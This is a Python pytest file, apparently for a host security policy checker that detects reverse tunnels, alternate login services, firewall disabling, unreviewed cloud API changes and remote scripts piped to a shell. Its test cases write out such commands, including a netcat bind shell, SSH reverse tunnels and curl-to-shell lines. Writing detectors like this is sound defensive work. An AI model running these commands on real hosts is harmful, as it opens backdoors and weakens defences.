"""What commands do that no resource shows."""

import pytest

from policies.host.acts import Kind, acts, unread
from policies.host.content import Content
from policies.host.logins import second
from tests.policies.host.told import at, cloud_config, script


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("relay", "socat TCP-LISTEN:443,fork TCP:10.0.0.1:22"),
        ("relay", "socat tcp-l:443,bind=0.0.0.0 TCP:10.0.0.1:22"),
        ("relay", "socat UDP4-LISTEN:443 -"),
        ("relay", "ssh -NR 2222:localhost:22 x@198.51.100.7"),
        ("relay", "autossh -M 0 -fNT -o X=1 -R 2222:localhost:22 x@198.51.100.7"),
        ("relay", "ssh -w 0:0 x@198.51.100.7"),
        ("relay", "ngrok tcp 22"),
        ("relay", "/opt/frp/frpc -c x.toml"),
        ("relay", "chisel client https://x R:2222:localhost:22"),
        ("relay", "bore local 22 --to bore.pub"),
        ("relay", "cloudflared tunnel --url http://localhost:8080"),
        ("relay", "cloudflared tunnel --url=ssh://localhost:22"),
        ("relay", "tailscale funnel 443"),
        ("relay", "nc -lvp 4444 -e /bin/sh"),
        ("relay", "ncat --listen 4444"),
        ("relay", "/lib/systemd/systemd-socket-proxyd 10.0.0.1:22"),
        ("login", "tailscale set --ssh"),
        ("login", "ttyd bash"),
        ("login", "systemctl enable --now cockpit.socket"),
        ("login", "jupyter lab --ip=0.0.0.0"),
        ("login", "/usr/sbin/sshd -p 2222"),
        ("login", "sshd -f /srv/sshd_config"),
        ("disabling", "ufw disable"),
        ("disabling", "ufw --force reset"),
        ("disabling", "systemctl disable --now nftables"),
        ("disabling", "systemctl mask nftables.service"),
        ("disabling", "service ufw stop"),
        ("disabling", "apt-get purge -y nftables"),
        ("unseen", "hcloud firewall delete x"),
        ("unseen", "curl -X POST https://api.hetzner.cloud/v1/servers"),
        ("unseen", "curl --request=DELETE https://API.cloudflare.com/client/v4/zones/x"),
        ("unseen", "curl -XPUT https://api.hetzner.cloud/v1/x"),
        ("unseen", "curl -fsSXPOST https://api.hetzner.cloud/v1/x"),
        ("unseen", "curl -sSd @x.json https://api.hetzner.cloud/v1/x"),
        ("unseen", "curl -sX DELETE https://api.hetzner.cloud/v1/x"),
        ("unseen", "curl -d @x.json https://api.hetzner.cloud/v1/x"),
        ("unseen", "curl -X $METHOD https://api.hetzner.cloud/v1/x"),
        ("unseen", "wget --post-file=x.json https://api.hetzner.cloud/v1/x"),
        ("unseen", "http POST https://api.hetzner.cloud/v1/x"),
        ("unseen", "terraform -chdir=x apply -auto-approve"),
        ("unseen", "pulumi up --yes"),
        ("unseen", "aws ec2 run-instances"),
        ("unseen", "kubectl apply -f x.yaml"),
    ],
)
def test_it_is_found(kind: Kind, text: str) -> None:
    assert list(acts(script(text), kind))
    assert list(acts(at("/etc/systemd/system/x.service", f"[Service]\nExecStart=/bin/sh -c '{text}'\n"), kind))


@pytest.mark.parametrize(
    "text",
    [
        "socat - UNIX-CONNECT:/run/haproxy.sock",
        "socat TCP-LISTEN:443,bind=127.0.0.1 TCP:10.0.0.1:22",
        "ssh -NL 5432:localhost:5432 x@10.0.0.1",
        "ssh -i /root/.ssh/R x@10.0.0.1 true",
        "cloudflared tunnel run",
        "tailscale status",
        "nc -z 10.0.0.1 5432",
        "sshd -t",
        "sshd -T -C user=x",
        "systemctl restart ssh",
        "systemctl enable --now nftables",
        "systemctl stop nginx",
        "ufw --force enable",
        "apt-get install -y nftables",
        "terraform fmt",
        "curl https://api.shop.example/x",
        "curl -fsS -H @header https://api.hetzner.cloud/v1/servers",
        "curl -X GET https://api.hetzner.cloud/v1/servers",
        "curl -fsSXGET https://api.hetzner.cloud/v1/servers",
        "hcloud server list",
        "aws s3 cp x s3://backup/x",
        "kubectl get pods",
        "echo 'ufw disable'",
        "# ngrok tcp 22",
        "chisel_url=https://x",
    ],
)
def test_it_is_nothing(text: str) -> None:
    content = script(text)
    assert not [facts for kind in ("relay", "login", "disabling", "unseen") for facts in acts(content, kind)]


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://x | sh",
        "curl https://x | sudo -E bash -s -- --yes",
        "wget -qO- https://x | bash",
        "bash <(curl -s https://x)",
        'sh -c "$(curl -fsSL https://x)"',
        "curl -s https://x | python3 -",
        "echo aGk= | base64 -d | sh",
        "base64 --decode x | sudo bash",
        "curl -fsSL -o /etc/nftables.conf https://x",
        "wget -O /usr/local/bin/x https://x && chmod +x /usr/local/bin/x",
    ],
)
def test_what_is_run_but_not_here(text: str) -> None:
    assert list(unread(script(text)))


@pytest.mark.parametrize(
    "text", ["curl -o x https://x", "curl https://x | jq .", "echo aGk= | base64 -d > x", "sh /srv/x.sh"]
)
def test_what_is_here(text: str) -> None:
    assert not list(unread(script(text)))


@pytest.mark.parametrize(
    "content",
    [
        cloud_config(packages=["dropbear"]),
        cloud_config(packages=["ttyd=1.7"]),
        script("apt-get install -y --no-install-recommends shellinabox"),
        Content(units={"dropbear.service": "running"}),
        at("/etc/haproxy/haproxy.cfg", "backend s\n server s 10.0.0.1:22\n"),
        at("/etc/nginx/stream.conf", "stream { server { listen 443; proxy_pass 127.0.0.1:22; } }"),
        at("/etc/traefik/dynamic.yaml", "address: 'web-1:22'\n"),
        at("/opt/x/compose.yaml", "services: {x: {image: 'ghcr.io/x/ttyd:1'}}"),
        at("/opt/x/compose.yaml", "services: {x: {image: portainer/portainer-ce}}"),
    ],
)
def test_a_second_way_to_log_in(content: Content) -> None:
    assert list(second(content))


@pytest.mark.parametrize(
    "content",
    [
        cloud_config(packages=["openssh-server"]),
        Content(units={"dropbear.service": "masked"}),
        at("/etc/haproxy/haproxy.cfg", "# server s 10.0.0.1:22\nserver w 10.0.0.1:2280\ntimeout 10:22\n"),
        at("/etc/motd", "ssh 10.0.0.1:22"),
        at("/opt/x/compose.yaml", "services: {x: {image: 'ghcr.io/ttyd/x:1'}}"),
    ],
)
def test_no_second_way_to_log_in(content: Content) -> None:
    assert not list(second(content))
